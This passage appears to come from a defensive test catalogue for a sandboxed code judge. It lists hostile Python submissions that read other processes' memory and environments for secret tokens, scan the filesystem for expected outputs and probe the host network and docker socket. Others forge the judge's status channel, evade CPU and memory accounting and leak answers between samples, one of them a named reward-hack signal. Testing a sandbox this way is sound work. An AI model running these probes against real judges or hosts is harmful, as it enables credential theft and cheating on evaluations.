                lo = int(open(f'/proc/{pid}/maps').readline().split('-')[0], 16)
            except (OSError, ValueError):
                lo = 0x400000
            buf = ctypes.create_string_buffer(4096)
            local = iovec(ctypes.cast(buf, ctypes.c_void_p), 4096)
            remote = iovec(lo, 4096)
            n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            results.append(f'vm_readv@{pid}:{"OK" if n > 0 else "denied"}')
            try:
                with open(f'/proc/{pid}/mem', 'rb', 0) as mem:
                    mem.seek(lo)
                    mem.read(4096)
                results.append(f'mem@{pid}:OK')
            except OSError:
                results.append(f'mem@{pid}:denied')
        sys.stderr.write('REPORT ' + ' '.join(results) + '\n')
        print('nothing')
        """,
        WA,
        "the runner's memory read or the runner traced",
        checks=("report_no_ok",),
    ),
    attack(
        "scan_open_fds",
        "fstat and read every fd from 0 to 1023 (inherited protocol pipes, memfds, ...)",
        _scanner(
            r"""
            import stat
            fds = []
            for fd in range(1024):
                try:
                    st = os.fstat(fd)
                except OSError:
                    continue
                fds.append(str(fd))
                try:
                    os.set_blocking(fd, False)
                    data = os.pread(fd, 1 << 22, 0) if stat.S_ISREG(st.st_mode) else os.read(fd, 1 << 20)
                except OSError:
                    continue
                look(f'fd {fd}', data)
            sys.stderr.write('REPORT open_fds=' + ','.join(fds) + '\n')
            """
        ),
        WA,
        "an fd of the runner (protocol pipes, another submission's data) left open in the program",
        checks=("no_found", "only_std_fds"),
    ),
    attack(
        "scan_environment",
        "its environment, /proc/self/environ and every /proc/*/environ (the judge's own environment holds the token)",
        _scanner(
            r"""
            look('os.environ', repr(dict(os.environ)).encode())
            for pid in os.listdir('/proc'):
                if pid.isdigit() or pid == 'self':
                    data = read_file(f'/proc/{pid}/environ')
                    if data is not None:
                        look(f'/proc/{pid}/environ', data)
            sys.stderr.write('REPORT env=' + ','.join(sorted(os.environ)) + '\n')
            """
        ),
        WA,
        "the judge's environment (or anything in it) visible to the program",
        checks=("no_found", "scanned:1"),
    ),
    attack(
        "scan_tmp",
        "reads every file under /tmp, /var/tmp, /dev/shm, /run and /run/lock",
        _scanner(
            _WALK
            + r"""
deadline = time.monotonic() + 2.0
for top in ('/tmp', '/var/tmp', '/dev/shm', '/run', '/run/lock'):
    walk(top, deadline)
"""
        ),
        WA,
        "the expected output (a world-readable dataset file on the host) found",
        time_limit_s=3.0,
        checks=("no_found", "scanned:3"),
    ),
    attack(
        "scan_filesystem",
        "walks the whole filesystem (likely places first) for 2.5 s, reading every file up to 4 MiB",
        _scanner(
            _WALK
            + r"""
deadline = time.monotonic() + 2.5
for top in ('/tmp', '/var/tmp', '/dev/shm', '/home', '/root', '/work', '/data', '/srv', '/mnt', '/opt', '/var', '/'):
    walk(top, deadline)
"""
        ),
        WA,
        "the expected output found anywhere on the filesystem",
        time_limit_s=4.0,
        memory_mb=256,
        checks=("no_found", "scanned:3"),
    ),
    # ------------------------------------------------------------------ network
    attack(
        "connect_to_host_loopback",
        "TCP connect and UDP send to the test's listener on the host's loopback and on every host address, "
        "and to the internet",
        r"""
        import socket, sys
        port = @@PORT@@
        hosts = @@HOST_ADDRESSES@@ + ['localhost', 'host.docker.internal', '1.1.1.1', 'deb.debian.org']
        reached = []
        for host in hosts:
            family = socket.AF_INET6 if ':' in host else socket.AF_INET
            try:
                socket.create_connection((host, port), timeout=0.5).close()
                reached.append(f'tcp:{host}')
            except OSError:
                pass
            try:
                udp = socket.socket(family, socket.SOCK_DGRAM)
                udp.sendto(b'hostile datagram', (host, port))
                udp.close()
            except OSError:
                pass
        interfaces = [name for _, name in socket.if_nameindex()]
        sys.stderr.write('REPORT reached=' + (','.join(reached) or 'none') + ' interfaces=' + ','.join(interfaces) + '\n')
        print('nothing reached')
        """,
        WA,
        "a connection or a datagram reaching the host (or any network beyond the jail's own loopback)",
        time_limit_s=2.0,
        checks=("report_none:reached", "only_loopback_interface", "listener_silent"),
    ),
    attack(
        "connect_to_docker_socket",
        "connects to the docker and containerd sockets (which would be root on the host)",
        r"""
        import socket, sys
        reached = []
        for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock',
                     '/var/run/docker/containerd/containerd.sock'):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect(path)
                reached.append(path)
            except OSError:
                pass
            finally:
                s.close()
        sys.stderr.write('REPORT reached=' + (','.join(reached) or 'none') + '\n')
        print('nothing reached')
        """,
        WA,
        "the container engine reached",
        checks=("report_none:reached",),
    ),
    attack(
        "connect_to_host_unix_socket",
        "connects to a world-accessible unix socket the test listens on in the host's /var/tmp",
        r"""
        import socket, sys
        reached = []
        for path in ('@@UNIX_SOCKET@@', '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0'):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect(path)
                s.sendall(b'hostile')
                reached.append(path)
            except OSError:
                pass
            finally:
                s.close()
        sys.stderr.write('REPORT reached=' + (','.join(reached) or 'none') + '\n')
        print('nothing reached')
        """,
        WA,
        "a service on the host reached through its unix socket",
        checks=("report_none:reached", "unix_listener_silent"),
    ),
    # ------------------------------------------------------------------ forging the runner's status channel
    attack(
        "forge_setup_error",
        "writes a fake runner set-up failure on the status fd (fd 3), in the runner's format and the old one",
        "import os\nos.write(3, b'E \"child set-up failed: forged\"\\n{\"setup_error\":\"forged\"}\\n')\n"
        "print('not the answer')\n",
        RE,
        "a failing sample turned into SE (left out of pass@k): after S, fd 3 is the program's",
        problem=ECHO,
    ),
    attack(
        "forge_return_fraction_zero",
        "call mode: writes a returned value {'$fraction': [1, 0]} on the status fd and exits",
        "import os\ndef f(s):\n    os.write(3, b'R {\"$fraction\":[1,0]}\\n')\n    os._exit(0)\n",
        RE,
        "the judge crashing (ZeroDivisionError in the host's decoder stopped the whole run) or SE",
        problem=CALL,
    ),
    attack(
        "forge_return_bad_decimal",
        "call mode: a returned value {'$decimal': 'not a number'} on the status fd",
        "import os\ndef f(s):\n    os.write(3, b'R {\"$decimal\":\"not a number\"}\\n')\n    os._exit(0)\n",
        RE,
        "the judge crashing (decimal.InvalidOperation) or SE",
        problem=CALL,
    ),
    attack(
        "forge_return_unhashable_set",
        "call mode: a returned value {'$set': [[1]]} on the status fd",
        "import os\ndef f(s):\n    os.write(3, b'R {\"$set\":[[1]]}\\n')\n    os._exit(0)\n",
        RE,
        "SE (the host's checker failing on it)",
        problem=CALL,
    ),
    attack(
        "forge_return_deeply_nested",
        "call mode: a returned value nested 100,000 lists deep on the status fd",
        "import os\ndef f(s):\n    os.write(3, b'R ' + b'[' * 100000 + b']' * 100000 + b'\\n')\n    os._exit(0)\n",
        RE,
        "SE (RecursionError in the runner or the host)",
        problem=CALL,
        checks=("judge_memory",),
    ),
    attack(
        "forge_status_flood",
        "prints a wrong answer, then writes ~32 MiB of status record: a list of 11 million empty lists",
        "import os\nprint('not the answer')\nos.write(3, b'R [' + b'[],' * (11 * 1024 * 1024) + b'[]]\\n')\n",
        RE,
        "SE (the runner or the judge built 11 million objects and died, or blew up the judge's memory)",
        problem=ECHO,
        time_limit_s=3.0,
        output_bytes=PRODUCTION_OUTPUT_BYTES,
        checks=("judge_memory",),
    ),
    attack(
        "forge_status_flood_old_format",
        "call mode: returns, then floods the status fd with the old JSON record: 32 MiB of `[],`",
        "import os\ndef f(s):\n    os.write(3, b'{\"returned\":true,\"value\":[' + b'[],' * (11 * 1024 * 1024) + b'[]]}\\n')\n"
        "    return s\n",
        RE,
        "SE, or the judge's memory growing with the flood",
        problem=CALL,
        time_limit_s=3.0,
        output_bytes=PRODUCTION_OUTPUT_BYTES,
        checks=("judge_memory",),
    ),
    attack(
        "huge_honest_return",
        "call mode: honestly returns a list of 3 million small ints (past the element limit)",
        "def f(s):\n    return list(range(3_000_000))\n",
        RE,
        "SE, or the judge building millions of objects of a value no test expects",
        problem=CALL,
        time_limit_s=3.0,
        memory_mb=512,
        output_bytes=PRODUCTION_OUTPUT_BYTES,
        checks=("judge_memory",),
    ),
    # ------------------------------------------------------------------ breaking its own working dir
    attack(
        "chmod_working_dir_zero",
        "answers each test, then chmods its working dir to 0: the next test must start anyway",
        "import os\nprint(input()[::-1])\nos.chmod('.', 0)\n",
        AC,
        "the next test failing to start (SE) because the runner reused a dir the program broke",
        problem=ECHO,
    ),
    attack(
        "wreck_working_dir",
        "answers each test, then deletes its own files, leaves a symlink loop, a fifo and a mode-0 subdir tree",
        r"""
        import os
        print(input()[::-1])
        for name in os.listdir('.'):
            os.unlink(name)
        os.symlink('loop', 'loop')
        os.symlink('/', 'root')
        os.mkfifo('pipe')
        os.makedirs('a/b/c')
        open('a/b/c/f', 'w').write('x')
        for d in ('a/b/c', 'a/b', 'a'):
            os.chmod(d, 0)
        os.chmod('.', 0)
        """,
        AC,
        "the next test failing to start, or anything of it surviving the test",
        problem=ECHO,
    ),
    attack(
        "fill_working_dir_tmpfs",
        "answers, then fills its tmpfs with files until it is full (size and inodes)",
        r"""
        import os, sys
        print(input()[::-1])
        sys.stdout.flush()
        block = b'f' * (1 << 20)
        n = 0
        try:
            while True:
                with open(f'f{n}', 'wb') as f:
                    f.write(block)
                n += 1
        except OSError:
            pass
        try:
            while True:
                open(f'e{n}', 'wb').close()
                n += 1
        except OSError:
            pass
        sys.stderr.write(f'REPORT files={n}\n')
        """,
        MLE,
        "the next test unable to start (no space for its files), or SE; what it left counts as memory",
        problem=ECHO,
        time_limit_s=3.0,
        memory_mb=64,
    ),
    attack(
        "many_files_then_answer",
        "creates 5000 small files in its working dir, then answers: the clean-up after each test is bounded",
        "print(input()[::-1])\nfor i in range(5000):\n    open(f'x{i}', 'w').close()\n",
        AC,
        "the next test unable to start, or a leftover dir",
        problem=ECHO,
        time_limit_s=3.0,
    ),
    # ------------------------------------------------------------------ CPU that escapes accounting
    attack(
        "cpu_in_auto_reaped_children",
        "ignores SIGCHLD (the kernel reaps its children at once, dropping their CPU times), starts 4 workers "
        "burning 0.3 s each under a 1 s limit, and answers when they are done",
        r"""
        import os, signal, time
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        r, w = os.pipe()
        for _ in range(4):
            if os.fork() == 0:
                os.close(r)
                end = time.process_time() + 0.3
                while time.process_time() < end:
                    pass
                os.write(w, b'.')
                os._exit(0)
        os.close(w)
        done = b''
        while len(done) < 4:  # every worker finished its 0.3 s (whatever the machine's load)
            chunk = os.read(r, 4)
            if not chunk:
                break
            done += chunk
        print('done')
        """,
        TLE,
        "1.2 s of CPU judged as 0.01 s (AC with the CPU of auto-reaped children uncounted)",
        time_limit_s=1.0,
    ),
    attack(
        "cpu_in_orphans_while_sleeping",
        "double-forks workers that burn 0.45 s of CPU each as orphans (reparented to pid 1), never waited for",
        r"""
        import os, time
        r, w = os.pipe()
        for _ in range(3):
            if os.fork() == 0:
                if os.fork() == 0:
                    os.close(r)
                    end = time.process_time() + 0.45
                    while time.process_time() < end:
                        pass
                    os.write(w, b'.')
                os._exit(0)
        os.close(w)
        while os.read(r, 3):  # until every orphan finished (EOF once they all exited)
            time.sleep(0.05)
        print('done')
        """,
        TLE,
        "CPU of orphaned grandchildren not counted",
        time_limit_s=1.0,
    ),
    # ------------------------------------------------------------------ shared memory and files as memory
    attack(
        "sysv_shm_beyond_the_limit",
        "allocates 1 GiB of System V shared memory through ctypes and touches it, under a 128 MB limit",
        r"""
        import ctypes, sys
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        shm = libc.shmget(0, 1 << 30, 0o1600)
        if shm < 0:
            sys.stderr.write(f'REPORT shm=refused:{ctypes.get_errno()}\n')
            print('no shm')
            raise SystemExit
        addr = libc.shmat(shm, None, 0)
        ctypes.memset(addr, 1, 1 << 30)
        sys.stderr.write('REPORT shm=used\n')
        print('used 1 GiB')
        """,
        frozenset({WA, MLE}),
        "1 GiB resident under a 128 MB limit, accepted",
        checks=("report_no_ok",),
    ),
    attack(
        "memory_in_tmpfs_files",
        "writes 100 MB of files in its working dir (a tmpfs: memory) under a 64 MB limit, then answers",
        "import os\nfor i in range(100):\n    open(f'm{i}', 'wb').write(b'm' * (1 << 20))\nprint(input()[::-1])\n",
        MLE,
        "memory held in tmpfs files not counted: AC at 100 MB under 64 MB",
        problem=ECHO,
        time_limit_s=3.0,
        memory_mb=64,
    ),
    # ------------------------------------------------------------------ kernel objects that outlive a process
    attack(
        "posix_mqueue_reader",
        "after a sample that tried to leave its answer in a POSIX message queue (mq_open through ctypes, not "
        "/dev/mqueue), opens that queue and reads it",
        _KERNEL_OBJECT_READER.replace("@@KIND@@", "mqueue"),
        WA,
        "one sample reading what an earlier one left (a channel between samples: AC by guessing and learning)",
        prelude="mqueue_writer",
        checks=("report_none:mqueue",),
    ),
    attack(
        "sysv_msg_reader",
        "after a sample that tried to leave its answer in a System V message queue, reads that queue",
        _KERNEL_OBJECT_READER.replace("@@KIND@@", "sysv_msg"),
        WA,
        "one sample reading what an earlier one left in System V IPC",
        prelude="sysv_msg_writer",
        checks=("report_none:sysv_msg",),
    ),
    attack(
        "keyring_reader",
        "after a sample that tried to leave its answer in its user keyring (add_key), searches the keyrings",
        _KERNEL_OBJECT_READER.replace("@@KIND@@", "keyring"),
        WA,
        "one sample reading a kernel key an earlier one left (keyrings also outlive the whole run)",
        prelude="keyring_writer",
        checks=("report_none:keyring",),
    ),
    attack(
        "abstract_socket_reader",
        "after a sample that left a daemon listening on an abstract unix socket, connects to it",
        _KERNEL_OBJECT_READER.replace("@@KIND@@", "abstract"),
        WA,
        "a process of an earlier sample still serving a later one",
        prelude="abstract_socket_writer",
        checks=("report_none:abstract",),
    ),
    attack(
        "early_stop_signal_and_guess",
        "learns from its own earlier tests through a file outside the current test's dir: the early-stop "
        "signal of the reward hack (a file telling a test whether the previous one ran)",
        r"""
        import os, sys
        marks = [p for p in ('..', '/tmp', os.path.expanduser('~')) if os.path.exists(os.path.join(p, '@@MARK@@-ran'))]
        for p in ('..', '/tmp'):
            try:
                open(os.path.join(p, '@@MARK@@-ran'), 'w').close()
            except OSError:
                pass
        sys.stderr.write('REPORT seen=' + (','.join(marks) or 'none') + '\n')
        print(input()[::-1])
        """,
        AC,
        "a test seeing a trace of an earlier test of the same or another sample",
        problem=ECHO,
        checks=("report_none:seen", "no_marked_host_files"),
    ),
    attack(
        "return_signalling_nan_decimal",
        "call mode: honestly returns decimal.Decimal('sNaN'), which raises when compared with a number",
        "import decimal\ndef f(a, b):\n    return decimal.Decimal('sNaN')\n",
        WA,
        "the judge crashing (decimal.InvalidOperation in the checker stopped the whole run)",
        problem=CALL_SUM,
    ),
]

NAMES = [entry.name for entry in CATALOGUE]
assert len(NAMES) == len(set(NAMES)), "catalogue names must be unique"

# Programs an entry's ``prelude`` names: judged right before it, in the same session.
# ``victim`` prints the run's secret token (derived from its salt and its input, which hold no token).
PRELUDES = {
    "victim": r"""
        # @@CODE_MARK@@ (a mark only this program's source holds)
        import hashlib
        seed = input().strip()
        token = 'taco' + 'secret' + hashlib.sha256(('@@SALT@@' + seed).encode()).hexdigest()[:32]
        for _ in range(2000):
            print(token)
        """,
}
PRELUDES.update({name: textwrap.dedent(code) + textwrap.dedent(PRELUDES["victim"]) for name, code in _WRITERS.items()})

# A victim that runs in another session while thieves look for it: its answer is in its output,
# in a file of its working dir and in its memory, for 5 s.
CONCURRENT_VICTIM = r"""
# @@CODE_MARK@@
import hashlib, time
seed = input().strip()
token = 'taco' + 'secret' + hashlib.sha256(('@@SALT@@' + seed).encode()).hexdigest()[:32]
with open('answer.txt', 'w') as f:
    f.write(token)
kept = [token + str(i) for i in range(1000)]
for _ in range(2000):
    print(token)
time.sleep(5)
"""

# The ordinary submission judged after every entry, in the same session: it answers right only
# when it finds no trace of anything that ran before it.
CLEAN_ROOM = r"""
import os, sys
traces = []
cwd = os.getcwd()
# Each test's working dir is fresh: the program file and its input file, nothing else.
if sorted(os.listdir('.')) != ['input.txt', 'solution.py']:
    traces.append('files in its working dir: ' + ','.join(sorted(os.listdir('.'))[:5]))
# A /tmp of the jail's own (a tmpfs mounted there: docker, or the local jail's private /tmp) must
# hold nothing but this working dir. A shared host /tmp (local jail whose Python lives under /tmp)
# is only checked for the run's marked files, below.
try:
    tmp_private = any(line.split()[4] == '/tmp' and ' - tmpfs ' in line for line in open('/proc/self/mountinfo'))
except OSError:
    tmp_private = True
try:
    others = [n for n in os.listdir('/tmp') if os.path.join('/tmp', n) != cwd]
    if others and tmp_private:
        traces.append('in /tmp: ' + ','.join(sorted(others)[:5]))
except OSError:
    pass
mine = {1, os.getpid(), os.getppid()}
for entry in os.listdir('/proc'):
    if entry.isdigit() and int(entry) not in mine:
        try:
            status = open(f'/proc/{entry}/status').read()
            cmdline = open(f'/proc/{entry}/cmdline', 'rb').read()[:80].decode('latin-1')
        except OSError:
            continue
        if '\nState:\tZ' not in status:
            traces.append(f'process {entry}: {cmdline}')
for kind in ('shm', 'msg', 'sem'):
    try:
        if len(open(f'/proc/sysvipc/{kind}').read().splitlines()) > 1:
            traces.append(f'System V {kind} objects')
    except OSError:
        pass
for place in ('/tmp', '/var/tmp', '/dev/shm', '/run/lock'):
    try:
        marked = [n for n in os.listdir(place) if '@@MARK@@' in n]
    except OSError:
        continue
    if marked:
        traces.append(f'{place}: {marked[:3]}')
expected_env = {'PATH', 'HOME', 'TMPDIR', 'LANG', 'PYTHONIOENCODING', 'OPENBLAS_NUM_THREADS', 'OMP_NUM_THREADS',
                'MKL_NUM_THREADS', 'PYTHONHASHSEED'}
if set(os.environ) - expected_env:
    traces.append('environment: ' + ','.join(sorted(set(os.environ) - expected_env)))
for fd in range(4, 1024):
    try:
        os.fstat(fd)
        traces.append(f'fd {fd} open')
    except OSError:
        pass
free = os.statvfs('.').f_bavail * os.statvfs('.').f_frsize
if free < 64 << 20:
    traces.append(f'only {free} bytes free in its working dir')
try:
    with open('probe', 'wb') as f:
        f.write(b'p' * (8 << 20))
    os.unlink('probe')
except OSError as exc:
    traces.append(f'cannot write 8 MiB: {exc}')
print(input()[::-1] if not traces else 'TRACE ' + ' | '.join(traces))
"""
